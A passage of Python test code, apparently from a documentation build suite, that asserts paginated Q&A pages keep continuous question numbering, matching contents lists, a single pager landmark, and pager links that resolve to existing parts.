            assert numbers == list(range(len(seen) - len(found) + 1, len(seen) + 1))  # the bank's numbering runs on
            toc = re.findall(r'<li><a href="#q-(\d+)">', text)
            assert [int(n) for n in toc] == numbers  # each part's contents list its own questions
            pager = re.search(r'<nav class="qa-pages".*?</nav>', text)
            assert pager and text.count('<nav class="qa-pages"') == 1, path  # one landmark of that name
            url = path.removesuffix(".md") + "/"
            for href in re.findall(r'href="([^"]+)"', pager.group(0)):
                target = posixpath.normpath(posixpath.join(url, href))
                assert f"{target}.md" in parts[lang], (path, href)  # long/print/2/ is long/print/2.md
        assert seen == slugs, lang  # every question once, in bank order
